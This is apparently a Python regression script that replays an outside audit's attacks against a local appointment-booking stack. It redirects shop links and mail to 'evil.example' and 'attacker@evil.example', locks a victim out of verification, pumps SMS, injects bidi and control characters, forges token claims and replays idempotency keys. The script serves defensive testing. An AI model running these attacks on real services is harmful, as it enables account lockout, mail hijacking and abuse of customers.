"""Replay the outside audit's attacks (issue 14) over HTTP against a running local stack.

    .venv/bin/python scripts/audit_replay.py --base http://127.0.0.1:3000 [--log <stack log>] [items]

``items``: any of 1 3 4 5 6 7 8 9 10 (default: all but 3, which waits for the next 10-minute
boundary of the clock and takes up to 13 minutes). Each attack prints what the stack answered, one
line per request, so the output of the same command before and after a change can be compared.
The stack's log (``make run``'s output, ``--log``) is searched for what must not be in it (item 7).
Every simulated person sends from a loopback address of their own, as the e2e tests do.

Only for a local stack (it uses ``/_local/token`` and ``/_local/messages``): never point it at AWS.
"""

from __future__ import annotations

import argparse
import itertools
import json
import random
import re
import sys
import time
import uuid
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import httpx

SERVICE = {"location_id": "austin-downtown", "service_id": "oil-change", "appointment_type": "in_store"}
CODE_TEXT = re.compile(r"^(\d{6}) is your ")
_NET = random.randint(20, 250)
_HOSTS = itertools.count(2)


class Stack:
    def __init__(self, base: str, log: Path | None) -> None:
        self.base = base.rstrip("/")
        self.log = log
        self.http = httpx.Client(base_url=self.base, timeout=60)
        self._tokens: dict[str, str] = {}

    # ------------------------------------------------------------------ people
    def person(self) -> httpx.Client:
        """A client from a loopback address nobody else in this run uses."""
        n = next(_HOSTS)
        address = f"127.{_NET}.{n // 250}.{n % 250 + 2}"
        return httpx.Client(
            base_url=self.base, timeout=60, transport=httpx.HTTPTransport(local_address=address)
        )

    def staff(self, *groups: str, **overrides: Any) -> dict[str, str]:
        body = {"sub": f"audit-{uuid.uuid4().hex[:8]}", "email": "audit@example.com", "groups": list(groups)}
        answer = self.http.post("/_local/token", json={**body, **overrides})
        if not answer.is_success:
            raise LookupError(f"/_local/token refused {sorted(overrides)}: {answer.status_code}")
        data = answer.json()
        return {"Authorization": f"Bearer {data.get('id_token') or data.get('token')}"}

    # ------------------------------------------------------------------ messages
    def drain(self) -> None:
        self.http.post("/_local/streams/drain", json={"timeout_seconds": 15})

    def messages_to(self, to: str) -> list[dict[str, Any]]:
        self.drain()
        return [m for m in self.http.get("/_local/messages").json()["messages"] if m["to"] == to]

    def last_code(self, to: str) -> str | None:
        for message in reversed(self.messages_to(to)):
            if match := CODE_TEXT.match(message["text"]):
                return match.group(1)
        return None

    def verified(self, who: httpx.Client, email: str) -> str:
        """A verification token for ``email`` (one per address: a second code would wait 30 s)."""
        if email in self._tokens:
            return self._tokens[email]
        sent = who.post("/v1/verification/codes", json={"channel": "email", "to": email})
        expect(sent.is_success, sent.text)
        checked = who.post("/v1/verification/checks", json={"to": email, "code": self.last_code(email)})
        expect(checked.status_code == 200, checked.text)
        self._tokens[email] = str(checked.json()["verification_token"])
        return self._tokens[email]

    def free_start(self, index: int = -1) -> str:
        slots = self.http.get("/v1/availability", params={**SERVICE, "days": 10}).json()["slots"]
        return str(slots[index]["start"])

    def book(
        self,
        who: httpx.Client,
        customer: dict[str, Any],
        *,
        token: str | None,
        key: str | None = None,
        start: str | None = None,
        vehicle: dict[str, Any] | None = None,
    ) -> httpx.Response:
        body = {
            **SERVICE,
            "start": start or self.free_start(random.randint(-40, -1)),
            "source": "audit-replay",
            "customer": customer,
            "vehicle": vehicle or {"year": 2019, "make": "Honda", "model": "Civic"},
        }
        headers = {"Idempotency-Key": key or str(uuid.uuid4())}
        if token:
            headers["Authorization"] = f"Bearer {token}"
        return who.post("/v1/appointments", json=body, headers=headers)

    def book_verified(self, who: httpx.Client, customer: dict[str, Any], **options: Any) -> httpx.Response:
        """``book`` with a verification token for the customer's e-mail, as the demo shop asks."""
        return self.book(who, customer, token=self.verified(who, customer["email"]), **options)

    def settings(self, headers: dict[str, str], changes: dict[str, Any]) -> httpx.Response:
        return self.http.patch("/v1/admin/settings", json={"changes": changes}, headers=headers)


class ReplayError(Exception):
    """The stack did not answer as an attack's set-up needs (the attack cannot go on)."""


def expect(condition: bool, what: str) -> None:
    if not condition:
        raise ReplayError(what[:200])


def show(label: str, answer: httpx.Response, keep: Callable[[Any], Any] | None = None) -> None:
    try:
        body: Any = answer.json()
    except ValueError:
        body = answer.text[:120]
    if keep is not None and answer.is_success:
        body = keep(body)
    elif isinstance(body, dict) and "error" in body:
        body = {k: body["error"].get(k) for k in ("code", "message", "details") if body["error"].get(k)}
    print(f"  {label}: {answer.status_code} {json.dumps(body, default=str)[:300]}")


def customer(mail: str, first: str = "Ann", last: str = "Lee", **fields: str) -> dict[str, Any]:
    """A booking's customer: ``mail`` and a fresh phone unless ``fields`` say otherwise."""
    return {"first_name": first, "last_name": last, "email": mail, "phone": phone(), **fields}


def phone() -> str:
    return f"+1512555{random.randint(0, 9999):04d}"


def email(tag: str) -> str:
    return f"audit-{tag}-{uuid.uuid4().hex[:8]}@example.com"


# ---------------------------------------------------------------------------------------- items
def item1(stack: Stack) -> None:
    print("1. settings that redirect the shop's links or mail (a staff token, not an owner)")
    staff = stack.staff("staff")
    show(
        "PATCH public_base_url",
        stack.settings(staff, {"public_base_url": "https://evil.example"}),
        lambda b: {"public_base_url": b["settings"].get("public_base_url")},
    )
    show(
        "PATCH hq_email + notification_route=hq",
        stack.settings(staff, {"hq_email": "attacker@evil.example", "notification_route": "hq"}),
        lambda b: {k: b["settings"].get(k) for k in ("hq_email", "notification_route")},
    )
    who = stack.person()
    mail = email("item1")
    booked = stack.book_verified(who, customer(mail))
    show(
        "the next booking's manage link",
        booked,
        lambda b: {"manage_url": b["manage_url"].split("/c/")[0] + "/c/..."},
    )
    stack.drain()
    outside = [
        m for m in stack.http.get("/_local/messages").json()["messages"] if m["to"] == "attacker@evil.example"
    ]
    print(f"  e-mails sent to attacker@evil.example: {len(outside)}")
    show(
        "GET /v1/admin/settings/history",
        stack.http.get("/v1/admin/settings/history", headers=staff),
        lambda b: [{"actor": e["actor"], "changes": sorted(e["changes"])} for e in b.get("history", [])][:3],
    )
    owner = stack.staff("staff", "owner")
    if stack.http.get("/v1/admin/settings", headers=owner).json()["settings"].get("public_base_url"):
        stack.settings(owner, {"public_base_url": stack.base})  # the old code's setting, put back
    show(
        "owner puts the routing back",
        stack.settings(owner, {"notification_route": "store", "hq_email": None}),
        lambda b: {k: b["settings"].get(k) for k in ("hq_email", "notification_route")},
    )


def item3(stack: Stack) -> None:
    print("3. codes to one phone across a 10-minute boundary of the clock")
    to = phone()
    who = stack.person()
    now = time.time()
    boundary = now - now % 600 + 600
    if boundary - now < 130:
        boundary += 600
    wait = boundary - 125 - now
    print(f"  waiting {wait:.0f} s for {datetime.fromtimestamp(boundary, UTC):%H:%M:%S}Z - 125 s")
    time.sleep(wait)
    started = time.time()
    for n in range(7):
        answer = who.post("/v1/verification/codes", json={"channel": "sms", "to": to})
        show(f"send {n + 1} at {time.time() - boundary:+.0f} s from the boundary", answer)
        time.sleep(max(0.0, started + 30.5 * (n + 1) - time.time()))
    print(f"  SMS delivered to the phone within {time.time() - started:.0f} s: {len(stack.messages_to(to))}")


def item4(stack: Stack) -> None:
    print("4. locking a victim out of verification (attacker: 2 sends + 10 wrong checks)")
    victim_phone = phone()
    attacker = stack.person()
    for round_ in range(2):
        show(
            f"attacker send {round_ + 1}",
            attacker.post("/v1/verification/codes", json={"channel": "sms", "to": victim_phone}),
        )
        for _ in range(5):
            attacker.post("/v1/verification/checks", json={"to": victim_phone, "code": "000000"})
        if round_ == 0:
            time.sleep(31)
    time.sleep(31)
    before = len(stack.messages_to(victim_phone))
    show(
        "attacker's 3rd send",
        attacker.post("/v1/verification/codes", json={"channel": "sms", "to": victim_phone}),
    )
    print(f"  SMS sent for it: {len(stack.messages_to(victim_phone)) - before}")
    time.sleep(31)
    victim = stack.person()
    show(
        "victim asks for a code",
        victim.post("/v1/verification/codes", json={"channel": "sms", "to": victim_phone}),
    )
    show(
        "victim checks the right code",
        victim.post(
            "/v1/verification/checks", json={"to": victim_phone, "code": stack.last_code(victim_phone)}
        ),
        lambda b: {"verification_token": "..." if b.get("verification_token") else None},
    )


def item5(stack: Stack) -> None:
    print("5. SMS pumping: the owner caps SMS at 2 an hour, then 3 strangers ask for codes")
    owner = stack.staff("staff", "owner")
    show(
        "owner sets sms_sends_per_hour=2",
        stack.settings(owner, {"sms_sends_per_hour": 2}),
        lambda b: {"sms_sends_per_hour": b["settings"].get("sms_sends_per_hour")},
    )
    for n in range(3):
        to = phone()
        show(
            f"stranger {n + 1} asks for an SMS code",
            stack.person().post("/v1/verification/codes", json={"channel": "sms", "to": to}),
        )
    show(
        "stranger 4 asks for an e-mail code",
        stack.person().post("/v1/verification/codes", json={"channel": "email", "to": email("item5")}),
    )
    show(
        "the shop's channels now",
        stack.http.get("/v1/shop"),
        lambda b: (
            {"verification_channels": b["shop"]["verification_channels"]}
            if "shop" in b
            else b.get("verification_channels")
        ),
    )
    stack.settings(owner, {"sms_sends_per_hour": 60})


def item6(stack: Stack) -> None:
    print("6. text that is not text, in a verified booking")
    for label, field, value in [
        ("NUL in first_name", "first_name", "Pat\x00"),
        ("ESC in last_name", "last_name", "Lee\x1b[31m"),
        ("U+202E in first_name", "first_name", "Pat\u202egnp.exe"),
        ("U+200B in last_name", "last_name", "L\u200bee"),
    ]:
        who = stack.person()
        mail = email("item6")
        show(
            label,
            stack.book_verified(who, customer(mail, "Pat", **{field: value})),
            lambda b: {"status": b["appointment"]["status"]},
        )
    who = stack.person()
    mail = email("item6")
    show(
        "U+202E in vehicle.model",
        stack.book_verified(
            who,
            customer(mail, "Pat"),
            vehicle={"year": 2019, "make": "Honda", "model": "Civic\u202e"},
        ),
        lambda b: {"status": b["appointment"]["status"]},
    )


def item7(stack: Stack) -> None:
    print("7. raw link tokens in the local gateway's log")
    who = stack.person()
    mail = email("item7")
    booked = stack.book_verified(who, customer(mail))
    url = booked.json()["manage_url"]
    token = url.rsplit("/c/", 1)[1]
    show("GET the manage link", stack.http.get("/c/" + token), lambda b: "page")
    if stack.log is None:
        print("  (no --log: the stack's log was not searched)")
        return
    time.sleep(1)
    text = stack.log.read_text(errors="replace")
    print(
        f"  the token in the stack's log: {text.count(token)} times;",
        f"'/c/{{token}}' in it: {text.count('/c/{token}')} times",
    )


def item8(stack: Stack) -> None:
    print("8. staff tokens with the wrong token_use / aud / iss")
    for label, overrides in [
        ("right claims", {}),
        ("token_use=access", {"token_use": "access"}),
        ("aud=another app client", {"aud": "another-client"}),
        ("iss=another user pool", {"iss": "https://cognito-idp.us-east-1.amazonaws.com/us-east-1_other"}),
    ]:
        try:
            headers = stack.staff("staff", **overrides)
        except LookupError as exc:
            print(f"  {label}: the local Cognito stand-in cannot mint it ({exc})")
            continue
        show(label, stack.http.get("/v1/admin/settings", headers=headers), lambda b: "settings")


def item9(stack: Stack) -> None:
    print("9. a booking's Idempotency-Key replayed by someone else (require_verification off for C)")
    a, b = stack.person(), stack.person()
    mail_a, mail_b = email("item9a"), email("item9b")
    key, start = str(uuid.uuid4()), stack.free_start()
    first = customer(mail_a)
    show(
        "A books",
        stack.book_verified(a, first, key=key, start=start),
        lambda x: {"id": x["appointment"]["id"]},
    )
    show(
        "A retries",
        stack.book_verified(a, first, key=key, start=start),
        lambda x: {"id": x["appointment"]["id"]},
    )
    other = {**first, "email": mail_b}
    show(
        "B replays A's key with B's token",
        stack.book_verified(b, other, key=key, start=start),
        lambda x: {"id": x["appointment"]["id"], "manage_url": "..."},
    )
    owner = stack.staff("staff", "owner")
    stack.settings(owner, {"require_verification": False})
    try:
        show(
            "C replays A's key and body without a token",
            stack.book(stack.person(), first, token=None, key=key, start=start),
            lambda x: {"id": x["appointment"]["id"], "manage_url": "..."},
        )
    finally:
        stack.settings(owner, {"require_verification": True})


def item10(stack: Stack) -> None:
    print("10. testing a number for Do Not Service (require_verification off)")
    owner = stack.staff("staff", "owner")
    who = stack.person()
    mail = email("item10")
    dns_phone = phone()
    booked = stack.book_verified(who, customer(mail, "Dee", "Nash", phone=dns_phone))
    expect(booked.status_code == 201, booked.text)
    found = stack.http.get("/v1/admin/customers", params={"q": mail}, headers=owner).json()["customers"][0]
    stack.http.patch(
        f"/v1/admin/customers/{found['id']}", json={"do_not_service": True}, headers=owner
    ).raise_for_status()
    show(
        "owner turns require_verification off",
        stack.settings(owner, {"require_verification": False}),
        lambda b: {"require_verification": b["settings"]["require_verification"]},
    )
    try:
        show(
            "stranger books with the Do Not Service phone",
            stack.book(
                stack.person(),
                {"first_name": "X", "last_name": "Y", "phone": dns_phone, "email": email("item10x")},
                token=None,
            ),
            lambda b: {"status": b["appointment"]["status"], "keys": sorted(b)},
        )
        show(
            "stranger books with an unknown phone",
            stack.book(
                stack.person(),
                {"first_name": "X", "last_name": "Y", "phone": phone(), "email": email("item10y")},
                token=None,
            ),
            lambda b: {"status": b["appointment"]["status"], "keys": sorted(b)},
        )
    finally:
        stack.settings(owner, {"require_verification": True})


ITEMS: dict[str, Callable[[Stack], None]] = {
    "1": item1,
    "3": item3,
    "4": item4,
    "5": item5,
    "6": item6,
    "7": item7,
    "8": item8,
    "9": item9,
    "10": item10,
}


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(
        description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
    )
    parser.add_argument("--base", default="http://127.0.0.1:3000", help="the local stack's URL")
    parser.add_argument("--log", type=Path, help="the local stack's log (make run's output)")
    parser.add_argument("items", nargs="*", choices=[[], *ITEMS], help="items to replay")
    args = parser.parse_args(argv)
    stack = Stack(args.base, args.log)
    chosen = args.items or [name for name in ITEMS if name != "3"]
    for name in chosen:
        try:
            ITEMS[name](stack)
        except (ReplayError, LookupError, httpx.HTTPError) as exc:
            print(f"  (item {name} could not go on: {type(exc).__name__}: {str(exc)[:200]})")
    return 0


if __name__ == "__main__":
    sys.exit(main())
